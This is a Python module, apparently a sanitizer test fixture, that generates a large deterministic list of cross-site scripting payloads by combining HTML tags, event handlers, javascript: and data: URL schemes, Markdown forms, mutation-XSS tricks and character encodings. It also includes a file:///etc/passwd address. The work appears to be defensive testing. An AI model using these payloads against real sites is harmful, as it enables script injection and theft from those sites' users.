"""Attempts to smuggle script into a text, generated: tags × attributes × schemes × encodings ×
Markdown forms × mutations.

Pure and deterministic, so that a browser can be given the same list: `call` is the script that a
payload runs when it gets through, such as ``alert(1)``. For a browser each payload calls with a
number of its own, so that it can be told which one fired.
"""

from base64 import b64encode
from collections.abc import Iterator
from itertools import count, product, repeat

_EVENTS = (
    "onload onerror onfocus onclick onmouseover onmouseenter onpointerover onpointerenter "
    "onanimationstart ontransitionend ontoggle onbeforetoggle onstart onfinish onbegin onend "
    "onscroll onscrollend onwheel oncopy onpaste onkeydown oninput onchange onsubmit onreset "
    "onplay oncanplay onloadeddata onhashchange onpageshow onmessage onafterprint"
)
EVENTS = _EVENTS.split()

AUTOMATIC = (
    '<img src="x:" {event}="{call}">',
    "<svg {event}={call}>",
    '<input autofocus tabindex=1 {event}="{call}">',
    '<details open {event}="{call}"><summary>a</summary>b</details>',
    '<video src="x:" autoplay {event}="{call}"></video>',
    '<p {event}="{call}">a</p>',
    '<a href="https://a.example" {event}="{call}">a</a>',
    '<table><td {event}="{call}">a</td></table>',
)

BREAKOUTS = (
    '"><img src=x: onerror={call}>',
    "'><img src=x: onerror={call}>",
    '" autofocus onfocus="{call}" onmouseover="{call}" x="',
    "' autofocus onfocus='{call}' onmouseover='{call}' x='",
    "--><img src=x: onerror={call}>",
    "</title><img src=x: onerror={call}>",
    "</textarea><img src=x: onerror={call}>",
    "</option></select><img src=x: onerror={call}>",
    "</script><script>{call}</script>",
    "</style><script>{call}</script>",
    '"><script>{call}</script>',
    "{{{{ {call} }}}}<b x='{{% raw %}}'><img src=x: onerror={call}>",
)
"""What gets out of where a page puts a text: attributes, titles, fields, lists, scripts."""

GADGETS = (
    '<p hx-on:click="{call}">a</p>',
    '<p data-hx-on:mouseover="{call}">a</p>',
    '<p hx-get="/healthz" hx-trigger="load[{call}]">a</p>',
    '<p data-hx-get="/healthz" data-hx-trigger="load" data-hx-vals="js:{{a:{call}}}">a</p>',
)
"""Attributes that the script library of the site would run as if they were ours."""

SCRIPTS = (
    "<script>{call}</script>",
    "<script >{call}</script >",
    "<script/x>{call}</script>",
    '<script src="data:text/javascript,{call}"></script>',
    '<script type="module">{call}</script>',
    "<svg><script>{call}</script></svg>",
    "<math><script>{call}</script></math>",
    '<img src=x: onerror="{call}">',
    "<img src=x: onerror={call}>",
    "<img src=x: onerror='{call}'>",
    '<img/src="x:"/onerror="{call}">',
    '<img\nsrc="x:"\nonerror="{call}">',
    '<img src="x:" onerror="{call}" ',
    '<image src="x:" onerror="{call}">',
    "<svg onload={call}>",
    "<svg/onload={call}>",
    '<svg><animate onbegin="{call}" attributeName=x dur=1s>',
    '<svg><set attributeName="onmouseover" to="{call}">',
    '<svg><use href="data:image/svg+xml,<svg id=x onload={call}>#x">',
    '<body onload="{call}">',
    '<iframe srcdoc="<script>parent.{call}</script>"></iframe>',
    '<iframe onload="{call}"></iframe>',
    '<object data="data:text/html,<script>{call}</script>"></object>',
    '<embed src="data:text/html,<script>{call}</script>">',
    '<details open ontoggle="{call}"><summary>a</summary></details>',
    '<marquee onstart="{call}">a</marquee>',
    '<input autofocus onfocus="{call}">',
    '<select autofocus onfocus="{call}"></select>',
    '<textarea autofocus onfocus="{call}"></textarea>',
    '<video><source onerror="{call}"></video>',
    '<audio src="x:" onerror="{call}"></audio>',
    "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={call}>a</b>",
    '<b style="background:url(javascript:{call})">a</b>',
    '<meta http-equiv="refresh" content="0;url=javascript:{call}">',
    '<base href="javascript:{call}//"><a href="#">a</a>',
    '<link rel="stylesheet" href="javascript:{call}">',
    '<form action="javascript:{call}"><button>a</button></form>',
    '<form id=f></form><button form=f formaction="javascript:{call}">a</button>',
    '<dialog open oncancel="{call}">a</dialog>',
    "<x contenteditable autofocus onfocus={call}>a</x>",
)
"""Whole pieces of HTML; most run by themselves where nothing stops them."""

SCHEMES = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    " javascript:{call}",
    "java\tscript:{call}",
    "java\nscript:{call}",
    "java\rscript:{call}",
    "\x01javascript:{call}",
    "java\x00script:{call}",
    "\u00a0javascript:{call}",
    "\u200bjavascript:{call}",
    "&#106;avascript:{call}",
    "&#x6a;avascript:{call}",
    "&#0000106avascript:{call}",
    "javascript&colon;{call}",
    "javascript&#58;{call}",
    "javascript&#x3A;{call}",
    "java&Tab;script:{call}",
    "java&NewLine;script:{call}",
    "%6Aavascript:{call}",
    "javascript%3A{call}",
    "\\javascript:{call}",
    "java\\script:{call}",
    "javascript://a.example/%0A{call}",
    "feed:javascript:{call}",
    "vbscript:{call}",
    "data:text/html,<script>{call}</script>",
    "data:text/html;base64,{base64}",
    "data:image/svg+xml,<svg onload={call}>",
    "blob:https://a.example/x",
    "file:///etc/passwd",
    "//a.example/x",
    "/x",
    "https:javascript:{call}",
    'https://a.example" onmouseover="{call}',
    "https://a.example' onmouseover='{call}",
    'https://a.example"><script>{call}</script>',
    'mailto:a@a.example" onclick="{call}',
)
"""Addresses that must not become a link as they are."""

ADDRESS_FORMS = (
    "[a]({address})",
    "[a](<{address}>)",
    '[a]({address} "b")',
    "![a]({address})",
    "[![a]({address})]({address})",
    "[a][1]\n\n[1]: {address}",
    "[a]\n\n[a]: <{address}>",
    "<{address}>",
    "{address}",
    "[*a*]( {address} )",
    "> - [a]({address})",
    "|[a]({address})|b|\n|-|-|\n|c|d|",
    '<a href="{address}">a</a>',
    "<a href='{address}'>a</a>",
    "<a href={address}>a</a>",
    '<svg><a xlink:href="{address}"><text>a</text></a></svg>',
    '<math href="{address}">a</math>',
    '<area href="{address}">',
    '<iframe src="{address}"></iframe>',
    '<form action="{address}"><button>a</button></form>',
)

MARKDOWN_FORMS = (
    "# {html}",
    "{html}\n===",
    "- {html}",
    "1. {html}\n    - {html}",
    "> {html}",
    "> > {html}\n{html}",
    "|{html}|a|\n|-|-|\n|b|{html}|",
    "**{html}**",
    "*{html}",
    "[{html}](https://a.example)",
    '[a](https://a.example "{html}")',
    "[a](https://a.example/{html})",
    "[a]: {html}\n\n[a]",
    "`a` {html} `",
    "```\na\n```\n{html}",
    "```{html}\n{html}",
    "    {html}",
    "<!-- {html} -->",
    "<!--> {html} -->",
    "<p>\n\n{html}\n\n</p>",
    "&amp;{html}",
    "a  \n{html}\\\n{html}",
)

MUTATIONS = (
    '<svg></p><style><a id="</style><img src=x: onerror={call}>">',
    (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: '
        'onerror={call}&gt;">'
    ),
    "<math><mtext><table><mglyph><style><math><img src=x: onerror={call}></style>",
    '<noscript><p title="</noscript><img src=x: onerror={call}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror={call}>",
    "<xmp><p title='</xmp><img src=x: onerror={call}>'>",
    "<listing>&lt;img src=x: onerror={call}&gt;</listing>",
    "<template><script>{call}</script></template>",
    (
        "<select><template><style><!--</style><a rel='--></style></template></select>"
        "<img src=x: onerror={call}>'>"
    ),
    "<title>&lt;/title&gt;&lt;img src=x: onerror={call}&gt;</title>",
    "<textarea></textarea><img src=x: onerror={call}></textarea>",
    "<iframe><img title='</iframe><img src=x: onerror={call}>'></iframe>",
    "<noembed><img title='</noembed><img src=x: onerror={call}>'></noembed>",
    "<plaintext><img src=x: onerror={call}>",
    "<svg><title><style><img title='</style><img src=x: onerror={call}>'></title></svg>",
    "<svg><desc><img src=x: onerror={call}></desc></svg>",
    "<svg><foreignObject><img src=x: onerror={call}></foreignObject></svg>",
    "<table><tr><td><a title='</a><img src=x: onerror={call}>'></table>",
    "<a><b></a><img src=x: onerror={call}></b>",
    "<p><a href='https://a.example'><p><a href='javascript:{call}'>a</a></p></a></p>",
    "<<script>{call}//<</script>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    '<img """><script>{call}</script>">',
    "<img src='x:'onerror='{call}'/>",
    '<a href="https://a.example"onmouseover="{call}">a</a>',
    "<![CDATA[><script>{call}</script>]]>",
    "<?xml <script>{call}</script> ?>",
    "<!DOCTYPE x [<!ENTITY y '<script>{call}</script>'>]>&y;",
    "\x02klzzwxh:0000\x03<script>{call}</script>",
    "\x02wzxhzdk:0\x03<img src=x: onerror={call}>",
    "\x0260\x03script\x0262\x03{call}\x0260\x03/script\x0262\x03",
    "\x02amp\x03lt;script>{call}</script>",
    "```\n<script>{call}</script>\n```\n\x020\x03",
    "&\x02amp\x03#60;script>{call}</script>",
)


def _entities(text: str) -> str:
    return text.replace("<", "&lt;").replace(">", "&gt;")


ENCODINGS = {
    "entities": _entities,
    "double entities": lambda text: _entities(text).replace("&", "&amp;"),
    "decimal": lambda text: text.replace("<", "&#60;").replace(">", "&#62;"),
    "decimal without end": lambda text: text.replace("<", "&#60").replace(">", "&#62"),
    "padded hexadecimal": lambda text: text.replace("<", "&#x0000003c;"),
    "all decimal": lambda text: "".join(f"&#{ord(letter)};" for letter in text),
    "upper case": lambda text: text.replace("script", "SCRIPT").replace("img", "IMG"),
    "mixed case": lambda text: text.replace("script", "sCrIpT").replace("svg", "sVg"),
    "NUL inside": lambda text: text.replace("<", "<\x00"),
    "control inside": lambda text: text.replace("script", "scr\x08ipt").replace("on", "o\x0bn"),
    "full width": lambda text: text.replace("<", "＜").replace(">", "＞"),
    "escaped": lambda text: text.replace("<", "\\<").replace(">", "\\>"),
    "UTF-7": lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    "override": lambda text: f"\u202e{text}\u202c".replace("<", "<\u2066"),
    "combining": lambda text: text.replace(">", ">\u0338").replace("<", "<\u0338"),
    "half surrogate": lambda text: text.replace("<", "<\ud800"),
    "split by lines": lambda text: text.replace(" ", "\n"),
    "quoted by emphasis": lambda text: text.replace("script", "scr*i*pt"),
    "inside code": lambda text: text.replace("<", "`<`"),
    "open": lambda text: text.rstrip(">"),
}


def payloads(call: str = "alert(1)") -> list[str]:
    """All payloads, without doubles, in a fixed order; more than 1,500."""
    return list(dict.fromkeys(_all(repeat(call))))


def html_payloads(call: str = "alert(1)") -> list[str]:
    """Those that are HTML by themselves: what a page without sanitising would run."""
    return list(_html(repeat(call)))


def numbered(function: str = "fired") -> dict[int, str]:
    """The payloads of ``payloads`` by the number that each calls `function` with."""
    found: dict[str, tuple[int, str]] = {}
    calls = (f"{function}({number})" for number in count())
    alike = zip(_all(repeat("alert(1)")), _all(calls), strict=True)
    for number, (plain, counted) in enumerate(alike):
        found.setdefault(plain, (number, counted))
    return dict(found.values())


def _html(calls: Iterator[str]) -> Iterator[str]:
    for shape in (*SCRIPTS, *MUTATIONS, *BREAKOUTS, *GADGETS):
        yield _filled(shape, next(calls))
    for shape, event in product(AUTOMATIC, EVENTS):
        yield shape.format(event=event, call=next(calls))


def _all(calls: Iterator[str]) -> Iterator[str]:
    yield from _html(calls)
    for form, scheme in product(ADDRESS_FORMS, SCHEMES):
        yield form.format(address=_filled(scheme, next(calls)))
    for form, html in product(MARKDOWN_FORMS, SCRIPTS):
        yield form.format(html=_filled(html, next(calls)))
    for encode, html in product(ENCODINGS.values(), SCRIPTS):
        yield encode(_filled(html, next(calls)))


def _filled(shape: str, call: str) -> str:
    coded = b64encode(f"<script>parent.{call}</script>".encode()).decode()
    return shape.format(call=call, base64=coded)
